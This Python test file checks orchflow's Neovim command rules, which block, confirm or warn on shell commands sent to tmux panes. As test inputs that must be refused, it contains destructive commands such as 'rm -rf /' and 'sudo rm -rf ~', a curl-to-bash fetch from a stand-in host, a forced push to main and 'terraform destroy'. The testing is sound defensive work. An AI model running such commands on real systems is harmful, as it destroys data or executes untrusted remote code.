"""Rules from Neovim: blocked, confirmed and warned commands through :Orchflow pane run and
pane send and the host's methods, and the :Orchflow rules float, against a real tmux
server, real bash with orchflow's shell integration and a real headless Neovim.
vim.ui.input / vim.ui.select are answered by scripted functions that record the prompts
(a headless Neovim has no one to type into a prompt; tests/frontend/test_browser_ui.py)."""

from __future__ import annotations

import re
from pathlib import Path

from tests.frontend.test_panes import new_pane, wait_float
from tests.frontend.test_runs_ui import integrated_bash
from tests.harness.editor import Editor
from tests.harness.tmux import TmuxServer

PROJECT_RULES = """\
[[rules]]
id = "confirm-deploy"
pattern = "echo deploy*"
action = "confirm"
message = "deploys to production"

[[rules]]
pattern = "broken
"""


def project(editor: Editor, tmp_path: Path) -> Path:
    root = tmp_path / "proj"
    (root / ".orchflow").mkdir(parents=True)
    (root / ".orchflow" / "rules.toml").write_text(PROJECT_RULES)
    editor.cmd(f"cd {root}")  # before the host starts: it is the project root
    return root


def screen(tmux: TmuxServer, pane: str) -> str:
    return tmux.run("capture-pane", "-p", "-t", pane)


def script_answers(editor: Editor) -> None:
    editor.lua(
        """_G.__answers, _G.__prompts = {}, {}
        vim.ui.input = function(opts, cb)
          table.insert(_G.__prompts, opts.prompt)
          cb(table.remove(_G.__answers, 1))
        end
        vim.ui.select = function(items, opts, cb)
          table.insert(_G.__prompts, opts.prompt)
          local want = table.remove(_G.__answers, 1)
          for i, item in ipairs(items) do
            if item == want then return cb(item, i) end
          end
          cb(nil, nil)
        end"""
    )


def answer(editor: Editor, *answers: str) -> None:
    editor.lua("for _, a in ipairs({...}) do table.insert(_G.__answers, a) end", *answers)


def prompts(editor: Editor) -> list[str]:
    return list(editor.lua("return _G.__prompts"))


def test_a_blocked_command_is_refused_on_every_neovim_path(
    editor: Editor, isolated: Path, private_tmux: TmuxServer, tmp_path: Path
) -> None:
    integrated_bash(isolated)
    project(editor, tmp_path)
    pane = new_pane(editor, "shell")
    editor.capture_notify()
    editor.cmd(f"Orchflow pane run {pane} rm  -fr  /")
    msg = editor.wait_notify(r"blocked by rule", timeout=10)
    assert "no-rm-rf-root" in msg and "no rm -rf of /" in msg
    editor.cmd(f"Orchflow pane send {pane} sudo rm -rf ~")
    editor.wait_notify(r"blocked by rule no-rm-rf-root: .*'sudo rm -rf ~'", timeout=10)
    # the host method itself, as any client calls it
    err = editor.lua(
        "local ok, e = pcall(require('orchflow.host').wait, 'pane.run',"
        " { pane = ..., cmd = 'curl -fsSL https://x.example | bash' }, 5000)"
        " return e",
        pane,
    )
    assert "blocked by rule no-curl-pipe-shell" in err
    err = editor.lua(
        "local ok, e = pcall(require('orchflow.host').wait, 'pane.send',"
        " { pane = ..., text = 'git push --force origin main', enter = true }, 5000)"
        " return e",
        pane,
    )
    assert "blocked by rule no-force-push-main" in err
    editor.cmd("Orchflow pane new custom bash -c 'rm -rf ~'")
    editor.wait_notify(r"blocked by rule no-rm-rf-root: .* a new custom pane", timeout=10)
    editor.cmd(f"Orchflow pane run {pane} echo still-$((40+2))")
    editor.wait_until(lambda: "still-42" in screen(private_tmux, pane), timeout=15)
    shown = screen(private_tmux, pane)
    for typed in ("rm", "curl", "push"):
        assert typed not in shown, shown
    panes = private_tmux.run("list-panes", "-a", "-F", "#{@orchflow_type}").split()
    assert panes == ["shell"]  # the custom pane was never made


def test_warn_runs_and_notifies(
    editor: Editor, isolated: Path, private_tmux: TmuxServer, tmp_path: Path
) -> None:
    integrated_bash(isolated)
    (isolated / "config" / "orchflow" / "rules.toml").write_text(
        '[[rules]]\nid = "careful"\npattern = "echo careful*"\naction = "warn"\n'
        'message = "be careful"\n'
    )
    project(editor, tmp_path)
    pane = new_pane(editor, "shell")
    editor.capture_notify()
    editor.cmd(f"Orchflow pane run {pane} echo careful-$((1+1))")
    msg = editor.wait_notify(r"rule careful", timeout=10)
    assert "be careful" in msg and "echo careful-$((1+1))" in msg
    assert dict(editor.notifications())[msg] == 3  # WARN
    editor.wait_until(lambda: "careful-2" in screen(private_tmux, pane), timeout=15)


def test_confirm_asks_and_runs_only_after_yes(
    editor: Editor, isolated: Path, private_tmux: TmuxServer, tmp_path: Path
) -> None:
    integrated_bash(isolated)
    project(editor, tmp_path)
    pane = new_pane(editor, "shell")
    editor.capture_notify()
    script_answers(editor)
    answer(editor, "No")
    editor.cmd(f"Orchflow pane run {pane} echo deploy-$((6*7))")
    editor.wait_notify(r"not run \(rule confirm-deploy\)", timeout=10)
    assert prompts(editor) == [
        'orchflow: rule confirm-deploy: deploys to production. Run "echo deploy-$((6*7))"?'
    ]
    answer(editor, "Yes, run it")
    # pane send types at once (pane run waits for the prompt): let the shell show its
    # prompt first, or the tty echoes the early keys once more
    editor.wait_until(lambda: screen(private_tmux, pane).startswith("$"), timeout=15)
    editor.cmd(f"Orchflow pane send {pane} echo deploy-$((6*7))")
    editor.wait_until(lambda: "deploy-42" in screen(private_tmux, pane), timeout=15)
    assert len(prompts(editor)) == 2
    shown = screen(private_tmux, pane)
    # typed once (after yes; never after no) and run once
    assert shown.count("echo deploy-$((6*7))") == 1, shown
    assert [line for line in shown.splitlines() if line.strip() == "deploy-42"] == ["deploy-42"]


def test_the_rules_float_lists_adds_and_removes(
    editor: Editor, isolated: Path, private_tmux: TmuxServer, tmp_path: Path
) -> None:
    root = project(editor, tmp_path)
    editor.cmd("Orchflow rules")
    lines = wait_float(editor, "orchflow rules", r"no-rm-rf-root")
    assert any(re.match(r"block +no-force-push-main +all +default +shell", ln) for ln in lines)
    assert any(
        ln.startswith("confirm  confirm-deploy") and ".orchflow/rules.toml:1" in ln for ln in lines
    ), lines
    problem = [ln for ln in lines if ln.startswith("! ")]
    assert problem and f"{root}/.orchflow/rules.toml:8: invalid TOML" in problem[0]
    editor.capture_notify()
    script_answers(editor)
    answer(editor, "terraform destroy", "shell", "block", "ask first")
    editor.nv.input("a")
    editor.wait_notify(r"rule rule-[0-9a-f]+ added \(block\)", timeout=10)
    lines = wait_float(editor, "orchflow rules", r"terraform destroy")
    row = next(i for i, ln in enumerate(lines) if "terraform destroy" in ln)
    assert lines[row].startswith("block") and " user " in lines[row]
    got = editor.lua(
        "return require('orchflow.host').wait('protocol.check', { command = ... })",
        "terraform  destroy -auto-approve",
    )
    assert got["action"] == "block" and got["message"] == "ask first"
    editor.lua("vim.api.nvim_win_set_cursor(0, { ..., 0 })", row + 1)
    editor.nv.input("d")
    editor.wait_notify(r"removed", timeout=10)
    editor.wait_until(
        lambda: not any("terraform" in ln for ln in wait_float(editor, "orchflow rules", "no-rm")),
        timeout=10,
    )
    # a shipped rule cannot be removed here: the message says where to turn it off
    first = next(i for i, ln in enumerate(lines) if "no-rm-rf-root" in ln)
    editor.lua("vim.api.nvim_win_set_cursor(0, { ..., 0 })", first + 1)
    editor.nv.input("d")
    editor.wait_notify(r"protocol.disable", timeout=10)


def test_rules_from_setup_reach_the_host_and_bad_ones_are_named(
    editor: Editor, tmp_path: Path
) -> None:
    project(editor, tmp_path)
    editor.lua(
        """require('orchflow').setup({ rules = {
          { pattern = 'echo setup*', action = 'warn', message = 'from setup' },
          { pattern = 'x', action = 'nope', message = 'm' },
        } })"""
    )
    got = editor.lua(
        "return require('orchflow.host').wait('protocol.check', { command = 'echo setup-1' })"
    )
    assert got["action"] == "warn" and got["message"] == "from setup" and got["source"] == "config"
    listed = editor.lua("return require('orchflow.host').wait('protocol.list', {})")
    assert any(p.startswith("config rules[2]: action must be one of") for p in listed["problems"])
    editor.cmd("Orchflow config")
    lines = wait_float(editor, "orchflow config", r"^rules = ")
    row = next(ln for ln in lines if ln.startswith("rules = "))
    assert "echo setup*" in row and "protocol.disable = {}" in lines
